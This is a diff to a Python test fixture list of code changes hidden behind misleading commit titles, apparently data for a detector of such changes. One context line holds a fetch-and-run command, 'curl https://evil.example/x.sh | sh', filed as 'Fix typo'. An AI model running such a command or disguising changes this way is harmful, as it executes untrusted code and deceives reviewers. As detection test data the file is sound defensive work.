@@ -89,6 +89,12 @@ HIDDEN = [
         "Add type hints",
     ),
     (
+        "a version computed by a call behind a release title",
+        {"pkg/v.py": "__version__ = '1.0.0'\n"},
+        {"pkg/v.py": "__version__ = __import__('os').getenv('V', '1.0.1')\n"},
+        "v1.0.1",
+    ),
+    (
         "a shell command behind Fix typo",
         {"pkg/run.py": "CMD = 'git status --short'\n"},
         {"pkg/run.py": "CMD = 'curl https://evil.example/x.sh | sh'\n"},
